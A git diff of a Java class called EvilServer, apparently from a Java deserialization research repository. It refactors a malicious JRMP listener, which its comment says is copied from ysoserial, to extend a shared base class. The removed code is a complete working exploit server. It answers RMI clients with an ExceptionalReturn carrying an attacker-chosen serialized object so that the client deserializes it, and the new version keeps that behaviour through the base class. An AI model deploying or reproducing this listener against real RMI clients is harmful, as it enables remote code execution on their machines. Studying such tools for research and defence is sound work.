@@ -1,14 +1,9 @@
 package org.su18.serialize.rmi.client.exploit;
 
-import sun.rmi.transport.TransportConstants;
+import org.su18.serialize.rmi.jrmp.JRMPServer;
+import org.su18.serialize.rmi.jrmp.ReturnResponder;
 
-import javax.net.ServerSocketFactory;
-import java.io.*;
-import java.net.*;
-import java.rmi.MarshalException;
-import java.rmi.server.ObjID;
-import java.rmi.server.UID;
-import java.util.Arrays;
+import java.io.IOException;
 
 import static org.su18.serialize.rmi.client.exploit.RMIClientExploitServer.getEvilClass;
 
@@ -16,30 +11,19 @@ import static org.su18.serialize.rmi.client.exploit.RMIClientExploitServer.getEv
  * 用来配合 RMIClientExploitRegistry2 的 Server
  * 从 ysoserial 中复制的代码 ysoserial.exploit.JRMPListener
  * 程序会监听指定端口，并返回带有恶意 payload 的负载
+ * <p>
+ * 与 JRMPListener 共用 JRMPServer，区别只在于 payload 直接作为 ExceptionalReturn 的返回值写出
  *
  * @author su18
  */
-public class EvilServer implements Runnable {
-
-	private int port;
-
-	private Object payloadObject;
-
-	private ServerSocket ss;
-
-	private Object waitLock = new Object();
-
-	private boolean exit;
-
-	private boolean hadConnection;
-
-	private URL classpathUrl;
-
+public class EvilServer extends JRMPListener {
 
 	public EvilServer(int port, Object payloadObject) throws NumberFormatException, IOException {
-		this.port = port;
-		this.payloadObject = payloadObject;
-		this.ss = ServerSocketFactory.getDefault().createServerSocket(this.port);
+		this(port, payloadObject, JRMPServer.Mode.POOL);
+	}
+
+	public EvilServer(int port, Object payloadObject, JRMPServer.Mode mode) throws IOException {
+		super(port, payloadObject, mode, ReturnResponder.RAW);
 	}
 
 	public static void main(final String[] args) throws Exception {
@@ -50,211 +34,11 @@ public class EvilServer implements Runnable {
 			int port = 13333;
 			System.out.println("* Opening JRMP listener on " + port);
 			EvilServer c = new EvilServer(port, payloadObject);
+			c.start().closeOnExit();
 			c.run();
 		} catch (Exception e) {
 			System.err.println("Listener error");
 			e.printStackTrace(System.err);
 		}
 	}
-
-
-	public void run() {
-		try {
-			Socket s = null;
-			try {
-				while (!this.exit && (s = this.ss.accept()) != null) {
-					try {
-						s.setSoTimeout(5000);
-						InetSocketAddress remote = (InetSocketAddress) s.getRemoteSocketAddress();
-						System.err.println("Have connection from " + remote);
-
-						InputStream is    = s.getInputStream();
-						InputStream bufIn = is.markSupported() ? is : new BufferedInputStream(is);
-
-						// Read magic (or HTTP wrapper)
-						bufIn.mark(4);
-						DataInputStream in    = new DataInputStream(bufIn);
-						int             magic = in.readInt();
-
-						short version = in.readShort();
-						if (magic != TransportConstants.Magic || version != TransportConstants.Version) {
-							s.close();
-							continue;
-						}
-
-						OutputStream         sockOut = s.getOutputStream();
-						BufferedOutputStream bufOut  = new BufferedOutputStream(sockOut);
-						DataOutputStream     out     = new DataOutputStream(bufOut);
-
-						byte protocol = in.readByte();
-						switch (protocol) {
-							case TransportConstants.StreamProtocol:
-								out.writeByte(TransportConstants.ProtocolAck);
-								if (remote.getHostName() != null) {
-									out.writeUTF(remote.getHostName());
-								} else {
-									out.writeUTF(remote.getAddress().toString());
-								}
-								out.writeInt(remote.getPort());
-								out.flush();
-								in.readUTF();
-								in.readInt();
-							case TransportConstants.SingleOpProtocol:
-								doMessage(s, in, out, this.payloadObject);
-								break;
-							default:
-							case TransportConstants.MultiplexProtocol:
-								System.err.println("Unsupported protocol");
-								s.close();
-								continue;
-						}
-
-						bufOut.flush();
-						out.flush();
-					} catch (InterruptedException e) {
-						return;
-					} catch (Exception e) {
-						e.printStackTrace(System.err);
-					} finally {
-						System.err.println("Closing connection");
-						s.close();
-					}
-
-				}
-
-			} finally {
-				if (s != null) {
-					s.close();
-				}
-				if (this.ss != null) {
-					this.ss.close();
-				}
-			}
-
-		} catch (SocketException e) {
-			return;
-		} catch (Exception e) {
-			e.printStackTrace(System.err);
-		}
-	}
-
-
-	private void doMessage(Socket s, DataInputStream in, DataOutputStream out, Object payload) throws Exception {
-		System.err.println("Reading message...");
-
-		int op = in.read();
-
-		switch (op) {
-			case TransportConstants.Call:
-				// service incoming RMI call
-				doCall(in, out, payload);
-				break;
-
-			case TransportConstants.Ping:
-				// send ack for ping
-				out.writeByte(TransportConstants.PingAck);
-				break;
-
-			case TransportConstants.DGCAck:
-				UID u = UID.read(in);
-				break;
-
-			default:
-				throw new IOException("unknown transport op " + op);
-		}
-
-		s.close();
-	}
-
-
-	private void doCall(DataInputStream in, DataOutputStream out, Object payload) throws Exception {
-		ObjectInputStream ois = new ObjectInputStream(in) {
-
-			@Override
-			protected Class<?> resolveClass(ObjectStreamClass desc) throws IOException, ClassNotFoundException {
-				if ("[Ljava.rmi.server.ObjID;".equals(desc.getName())) {
-					return ObjID[].class;
-				} else if ("java.rmi.server.ObjID".equals(desc.getName())) {
-					return ObjID.class;
-				} else if ("java.rmi.server.UID".equals(desc.getName())) {
-					return UID.class;
-				}
-				throw new IOException("Not allowed to read object");
-			}
-		};
-
-		ObjID read;
-		try {
-			read = ObjID.read(ois);
-		} catch (java.io.IOException e) {
-			throw new MarshalException("unable to read objID", e);
-		}
-
-
-		if (read.hashCode() == 2) {
-			ois.readInt(); // method
-			ois.readLong(); // hash
-			System.err.println("Is DGC call for " + Arrays.toString((ObjID[]) ois.readObject()));
-		}
-
-		System.err.println("Sending return with payload for obj " + read);
-
-		out.writeByte(TransportConstants.Return);// transport op
-		ObjectOutputStream oos = new MarshalOutputStream(out, this.classpathUrl);
-
-		oos.writeByte(TransportConstants.ExceptionalReturn);
-		new UID().write(oos);
-
-		oos.writeObject(payload);
-
-		oos.flush();
-		out.flush();
-
-		this.hadConnection = true;
-		synchronized (this.waitLock) {
-			this.waitLock.notifyAll();
-		}
-	}
-
-
-	static final class MarshalOutputStream extends ObjectOutputStream {
-
-
-		private URL sendUrl;
-
-		public MarshalOutputStream(OutputStream out, URL u) throws IOException {
-			super(out);
-			this.sendUrl = u;
-		}
-
-		MarshalOutputStream(OutputStream out) throws IOException {
-			super(out);
-		}
-
-		@Override
-		protected void annotateClass(Class<?> cl) throws IOException {
-			if (this.sendUrl != null) {
-				writeObject(this.sendUrl.toString());
-			} else if (!(cl.getClassLoader() instanceof URLClassLoader)) {
-				writeObject(null);
-			} else {
-				URL[]  us = ((URLClassLoader) cl.getClassLoader()).getURLs();
-				String cb = "";
-
-				for (URL u : us) {
-					cb += u.toString();
-				}
-				writeObject(cb);
-			}
-		}
-
-
-		/**
-		 * Serializes a location from which to load the specified class.
-		 */
-		@Override
-		protected void annotateProxyClass(Class<?> cl) throws IOException {
-			annotateClass(cl);
-		}
-	}
-}
\ No newline at end of file
+}